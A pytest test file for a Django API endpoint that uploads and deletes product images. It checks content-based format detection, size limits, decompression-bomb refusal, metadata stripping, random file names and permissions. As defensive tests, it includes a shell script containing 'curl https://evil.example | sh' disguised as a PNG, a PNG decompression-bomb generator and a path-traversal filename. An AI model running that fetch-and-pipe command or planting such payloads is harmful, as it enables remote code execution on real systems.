"""Product images: `POST` and `DELETE products/{id}/image/`.

An upload is judged by decoding it, never by its name or declared type; its size is bounded before
the body is read; decompression bombs are refused before a pixel is decoded.
"""

import io
import os
import struct
import zlib

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import StopUpload
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from PIL import ExifTags, Image

from apps.core.uploads import FileSizeLimitHandler, SizeLimitedMultiPartParser
from apps.logs.models import AuditLog
from apps.products.images import MAX_PIXELS, _webp_canvas_size
from apps.products.models import Product
from tests.api_permissions import Endpoint, EndpointPermissionTests
from tests.products.factories import new_product

# Catalog writes are audited in the logs database.
pytestmark = pytest.mark.django_db(databases="__all__")


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    """Uploaded files go to a temporary directory, never into the repository."""
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


# --- Files ----------------------------------------------------------------------------------------------
def image_bytes(image_format: str = "PNG", size=(8, 8), mode: str = "RGB", **options) -> bytes:
    buffer = io.BytesIO()
    color = (0, 128, 128, 100) if mode == "RGBA" else (0, 128, 128)  # see-through: WebP keeps the alpha
    Image.new(mode, size, color).save(buffer, image_format, **options)
    return buffer.getvalue()


def noise_png(size_bytes: int) -> bytes:
    """An uncompressed PNG of random pixels, a little over `size_bytes` long."""
    side = int((size_bytes / 3) ** 0.5) + 1
    buffer = io.BytesIO()
    Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)).save(buffer, "PNG", compress_level=0)
    return buffer.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    """A valid PNG of `width` x `height` black pixels: a few kilobytes that decode to megabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\0" * (1 + (width + 7) // 8)  # filter byte, then one bit a pixel
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def upload(content: bytes, name: str = "photo.png", content_type: str = "image/png") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def url(product) -> str:
    return f"/api/v1/products/{product.pk}/image/"


@pytest.fixture
def editor(make_user):
    return make_user("products.change_product")


@pytest.fixture
def product(make_product):
    return make_product()


@pytest.fixture
def post_image(api, editor):
    """`post_image(product, content, name=…, content_type=…)` as a caller who may change products."""

    def post(product, content: bytes, **file):
        return api(editor).post(url(product), {"image": upload(content, **file)}, format="multipart")

    return post


def stored_files(media_root) -> list[str]:
    return sorted(path.name for path in media_root.rglob("*") if path.is_file())


# --- Accepted -------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("image_format", "suffix", "mode"),
    [("JPEG", ".jpg", "RGB"), ("PNG", ".png", "RGB"), ("WEBP", ".webp", "RGBA")],
)
def test_a_jpeg_png_or_webp_is_stored_and_shown_as_an_absolute_url(
    post_image, product, media_root, image_format, suffix, mode
):
    response = post_image(product, image_bytes(image_format, mode=mode), name=f"photo{suffix}")

    assert response.status_code == 200, response.content
    image_url = response.json()["image"]
    assert image_url.startswith("http://testserver/media/products/")
    assert image_url.endswith(suffix)
    product.refresh_from_db()
    assert product.image.storage.exists(product.image.name)
    assert stored_files(media_root) == [product.image.name.rsplit("/", 1)[1]]


def camera_exif(orientation: int = 1) -> bytes:
    """EXIF as a phone camera writes it: where (GPS), with what, and which way up."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Canon"
    exif[ExifTags.Base.Model] = "EOS 5D"
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (51.0, 30.0, 0.0),
    }
    return exif.tobytes()


def phone_jpeg() -> bytes:
    """A JPEG with an MPF segment and a second image, as most phone cameras save them (Pillow: MPO)."""
    buffer = io.BytesIO()
    first, second = Image.new("RGB", (8, 8), (0, 128, 128)), Image.new("RGB", (4, 4), (0, 0, 0))
    first.save(buffer, "MPO", save_all=True, append_images=[second], exif=camera_exif())
    return buffer.getvalue()


def stored_image(product) -> Image.Image:
    product.refresh_from_db()
    with product.image.open("rb") as file:
        image = Image.open(io.BytesIO(file.read()))
        image.load()
    return image


def test_a_phone_jpeg_with_an_mpf_segment_is_stored_as_a_jpeg(post_image, product):
    assert Image.open(io.BytesIO(phone_jpeg())).format == "MPO"  # what made it a KeyError before

    response = post_image(product, phone_jpeg(), name="IMG_0001.jpg", content_type="image/jpeg")

    assert response.status_code == 200, response.content
    assert response.json()["image"].endswith(".jpg")
    assert stored_image(product).format == "JPEG"


def test_a_phone_jpeg_is_stored_as_it_came_when_metadata_is_kept(settings, post_image, product):
    settings.PRODUCT_IMAGE_STRIP_METADATA = False

    assert post_image(product, phone_jpeg(), name="IMG_0001.jpg").status_code == 200

    product.refresh_from_db()
    with product.image.open("rb") as file:
        assert file.read() == phone_jpeg()


@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP"])
def test_gps_and_camera_metadata_are_not_stored(post_image, product, image_format):
    content = image_bytes(
        image_format, exif=camera_exif(), **({"comment": b"me"} if image_format == "JPEG" else {})
    )
    assert Image.open(io.BytesIO(content)).getexif()  # the upload carries it

    assert post_image(product, content, name="photo").status_code == 200

    stored = stored_image(product)
    assert stored.format == image_format
    assert not stored.getexif()
    assert not {"exif", "xmp", "comment"} & set(stored.info)


def test_the_exif_orientation_is_applied_to_the_stored_pixels(post_image, product):
    # 16 wide and 8 high, to be shown turned a quarter (orientation 6): 8 wide and 16 high.
    content = image_bytes("JPEG", size=(16, 8), exif=camera_exif(orientation=6))

    assert post_image(product, content, name="photo.jpg").status_code == 200

    stored = stored_image(product)
    assert stored.size == (8, 16)
    assert ExifTags.Base.Orientation not in stored.getexif()


def test_metadata_stays_when_stripping_is_turned_off(settings, post_image, product):
    settings.PRODUCT_IMAGE_STRIP_METADATA = False
    content = image_bytes("JPEG", exif=camera_exif())

    assert post_image(product, content, name="photo.jpg").status_code == 200

    assert stored_image(product).getexif()[ExifTags.Base.Make] == "Canon"


def test_an_image_without_metadata_is_stored_byte_for_byte(post_image, product):
    content = image_bytes("PNG")

    assert post_image(product, content, name="photo.png").status_code == 200

    product.refresh_from_db()
    with product.image.open("rb") as file:
        assert file.read() == content


def test_the_stored_name_is_random_not_the_clients(post_image, product):
    response = post_image(product, image_bytes("PNG"), name="../../etc/my holiday.png")

    assert response.status_code == 200
    product.refresh_from_db()
    assert product.image.name.startswith("products/")
    assert "holiday" not in product.image.name


def test_a_png_named_txt_is_accepted_by_its_content_and_stored_as_png(post_image, product):
    response = post_image(product, image_bytes("PNG"), name="notes.txt", content_type="text/plain")

    assert response.status_code == 200, response.content
    product.refresh_from_db()
    assert product.image.name.endswith(".png")


def test_a_4_mb_image_fits_although_django_caps_form_data_at_2_mb(post_image, product):
    content = noise_png(4 * 1024 * 1024)
    assert (
        django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE < len(content) < django_settings.PRODUCT_IMAGE_MAX_BYTES
    )

    response = post_image(product, content)

    assert response.status_code == 200, response.content
    product.refresh_from_db()
    assert product.image.size == len(content)


# --- Refused: not an image ------------------------------------------------------------------------------
def test_a_script_named_png_is_415(post_image, product, media_root):
    script = b"#!/bin/sh\ncurl https://evil.example | sh\n"

    response = post_image(product, script, name="photo.png", content_type="image/png")

    assert response.status_code == 415
    body = response.json()
    assert body["code"] == "unsupported_media_type"
    assert body["message"] == "The file is not a JPEG, PNG or WebP image."
    assert stored_files(media_root) == []


def test_an_image_of_another_format_is_415(post_image, product):
    response = post_image(product, image_bytes("GIF"), name="photo.gif", content_type="image/gif")

    assert response.status_code == 415
    assert response.json()["code"] == "unsupported_media_type"


def test_a_truncated_jpeg_is_415(post_image, product, media_root):
    whole = image_bytes("JPEG", size=(64, 64))

    response = post_image(product, whole[: len(whole) // 2], name="photo.jpg", content_type="image/jpeg")

    assert response.status_code == 415
    assert "damaged or truncated" in response.json()["message"]
    assert stored_files(media_root) == []


def test_a_json_body_is_415(api, editor, product):
    response = api(editor).post(url(product), {"image": "aGVsbG8="}, format="json")

    assert response.status_code == 415
    assert response.json()["code"] == "unsupported_media_type"


def test_a_missing_image_is_a_400_keyed_image(api, editor, product):
    response = api(editor).post(url(product), {}, format="multipart")

    assert response.status_code == 400
    assert set(response.json()["field_errors"]) == {"image"}


def test_a_file_under_another_name_is_a_400_naming_both(api, editor, product):
    response = api(editor).post(url(product), {"picture": upload(image_bytes())}, format="multipart")

    assert response.status_code == 400
    assert set(response.json()["field_errors"]) == {"image", "picture"}


def test_an_image_sent_as_text_rather_than_a_file_is_a_400_keyed_image(api, editor, product):
    response = api(editor).post(url(product), {"image": "photo.png"}, format="multipart")

    assert response.status_code == 400
    assert set(response.json()["field_errors"]) == {"image"}


# --- Refused: too large ---------------------------------------------------------------------------------
def test_a_6_mb_image_is_413_on_its_content_length_before_the_body_is_parsed(
    post_image, product, media_root, monkeypatch
):
    def must_not_run(*args, **kwargs):
        raise AssertionError("the body was parsed")

    monkeypatch.setattr("apps.core.uploads.DjangoMultiPartParser", must_not_run)

    response = post_image(product, noise_png(6 * 1024 * 1024))

    assert response.status_code == 413
    assert response.json() == {
        "code": "payload_too_large",
        "message": "The image is larger than 5.0 MB.",
        "request_id": response["X-Request-ID"],
    }
    assert stored_files(media_root) == []


def test_a_file_over_the_limit_is_stopped_while_it_streams_when_the_declared_length_fits(
    api, editor, product, settings, media_root, monkeypatch
):
    def must_not_run(*args, **kwargs):
        raise AssertionError("the whole upload reached the image check")

    monkeypatch.setattr("apps.products.images.image_check", must_not_run)
    settings.PRODUCT_IMAGE_MAX_BYTES = 50_000
    content = noise_png(60_000)
    body = encode_multipart(BOUNDARY, {"image": upload(content)})
    # The Content-Length check lets this body through: only counting the file's bytes can stop it.
    assert len(body) <= settings.PRODUCT_IMAGE_MAX_BYTES + SizeLimitedMultiPartParser.envelope_bytes

    response = api(editor).post(url(product), body, content_type=MULTIPART_CONTENT)

    assert response.status_code == 413
    assert response.json()["code"] == "payload_too_large"
    assert stored_files(media_root) == []


def test_the_upload_handler_stops_at_the_first_chunk_past_the_limit():
    handler = FileSizeLimitHandler(max_bytes=100)

    assert handler.receive_data_chunk(b"x" * 60, 0) == b"x" * 60
    assert handler.receive_data_chunk(b"x" * 40, 60) == b"x" * 40
    with pytest.raises(StopUpload):
        handler.receive_data_chunk(b"x", 100)
    assert handler.exceeded


@pytest.mark.parametrize(
    ("width", "height"),
    [
        (6_000, 5_000),  # over our limit, under Pillow's
        (10_000, 10_000),  # over Pillow's warning limit
        (20_000, 20_000),  # over Pillow's error limit
    ],
)
def test_a_decompression_bomb_is_400(post_image, product, media_root, width, height):
    bomb = png_bomb(width, height)
    assert len(bomb) < 200_000 and width * height > MAX_PIXELS

    response = post_image(product, bomb)

    assert response.status_code == 400
    assert response.json()["field_errors"] == {
        "image": ["The image has too many pixels: at most 25 megapixels are accepted."]
    }
    assert stored_files(media_root) == []


def test_a_webp_announcing_a_huge_canvas_is_refused_before_it_is_decoded(post_image, product):
    webp = bytearray(image_bytes("WEBP", mode="RGBA"))
    assert webp[12:16] == b"VP8X"
    webp[24:30] = (12_000 - 1).to_bytes(3, "little") + (12_000 - 1).to_bytes(3, "little")

    response = post_image(product, bytes(webp), name="photo.webp", content_type="image/webp")

    assert response.status_code == 400
    assert "too many pixels" in response.json()["field_errors"]["image"][0]


@pytest.mark.parametrize(
    ("kind", "options"),
    [(b"VP8X", {"mode": "RGBA"}), (b"VP8 ", {"mode": "RGB"}), (b"VP8L", {"mode": "RGB", "lossless": True})],
)
def test_the_webp_header_reader_finds_the_canvas_size_of_each_kind_of_webp(kind, options):
    header = image_bytes("WEBP", size=(37, 23), **options)[:30]
    assert header[12:16] == kind

    assert _webp_canvas_size(header) == (37, 23)


def test_the_webp_header_reader_ignores_other_formats():
    assert _webp_canvas_size(image_bytes("PNG")[:30]) is None


# --- Replace and delete ---------------------------------------------------------------------------------
def test_a_new_image_replaces_the_old_one_whose_file_is_deleted_after_commit(
    post_image, product, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        post_image(product, image_bytes("PNG"))
    product.refresh_from_db()
    old = product.image.name

    with django_capture_on_commit_callbacks(execute=True):
        response = post_image(product, image_bytes("JPEG"), name="new.jpg")

    assert response.status_code == 200
    product.refresh_from_db()
    assert product.image.name != old and product.image.name.endswith(".jpg")
    assert not product.image.storage.exists(old)
    assert product.image.storage.exists(product.image.name)


def test_delete_removes_the_file_and_clears_the_image(
    api, editor, post_image, product, media_root, django_capture_on_commit_callbacks
):
    post_image(product, image_bytes("PNG"))
    product.refresh_from_db()
    name = product.image.name

    with django_capture_on_commit_callbacks(execute=True):
        response = api(editor).delete(url(product))

    assert response.status_code == 204
    product.refresh_from_db()
    assert not product.image
    assert not product.image.storage.exists(name)
    assert stored_files(media_root) == []
    assert api().get(f"/api/v1/products/{product.pk}/").json()["image"] is None


def test_deleting_when_there_is_no_image_is_204_and_changes_nothing(api, editor, product):
    response = api(editor).delete(url(product))

    assert response.status_code == 204
    assert not AuditLog.objects.filter(action="product.image_delete").exists()


def test_image_changes_are_audited(api, editor, post_image, product):
    post_image(product, image_bytes("PNG"))
    product.refresh_from_db()
    api(editor).delete(url(product))

    entries = AuditLog.objects.filter(target_id=str(product.pk), action__startswith="product.image")
    assert {(entry.action, entry.actor_id) for entry in entries} == {
        ("product.image_set", editor.pk),
        ("product.image_delete", editor.pk),
    }
    assert entries.get(action="product.image_set").changes == {"image": [None, product.image.name]}


def test_the_public_catalog_shows_a_new_image_at_once(
    api, post_image, product, django_capture_on_commit_callbacks
):
    detail = f"/api/v1/products/{product.pk}/"
    assert api().get(detail).json()["image"] is None  # now cached

    with django_capture_on_commit_callbacks(execute=True):
        post_image(product, image_bytes("PNG"))

    assert api().get(detail).json()["image"].startswith("http://testserver/media/products/")


# --- Who may ---------------------------------------------------------------------------------------------
def test_anonymous_callers_get_401(api, product):
    response = api().post(url(product), {"image": upload(image_bytes())}, format="multipart")

    assert response.status_code == 401


def test_callers_without_change_product_get_403(api, make_user, product, media_root):
    caller = make_user("products.view_product", "products.adjust_stock")

    response = api(caller).post(url(product), {"image": upload(image_bytes())}, format="multipart")

    assert response.status_code == 403
    assert api(caller).delete(url(product)).status_code == 403
    assert stored_files(media_root) == []


def test_a_product_that_is_gone_is_404(post_image, make_product):
    gone = make_product()
    Product.objects.filter(pk=gone.pk).delete()

    assert post_image(gone, image_bytes()).status_code == 404


def test_an_inactive_product_takes_an_image_from_whoever_may_change_it(post_image, make_product):
    # Who may change a product sees it while inactive, to prepare it before it goes back on sale.
    withdrawn = make_product(is_active=False)

    assert post_image(withdrawn, image_bytes()).status_code == 200


def a_product(make_user, **kwargs) -> Product:
    return new_product()


class ImageUpload(Endpoint):
    def call(self, client, url):
        return client.post(url, {"image": upload(image_bytes())}, format="multipart")


class TestImageEndpoints(EndpointPermissionTests):
    endpoints = [
        ImageUpload("POST", "/api/v1/products/{pk}/image/", "products.change_product", make_object=a_product),
        Endpoint(
            "DELETE",
            "/api/v1/products/{pk}/image/",
            "products.change_product",
            success=204,
            make_object=a_product,
        ),
    ]
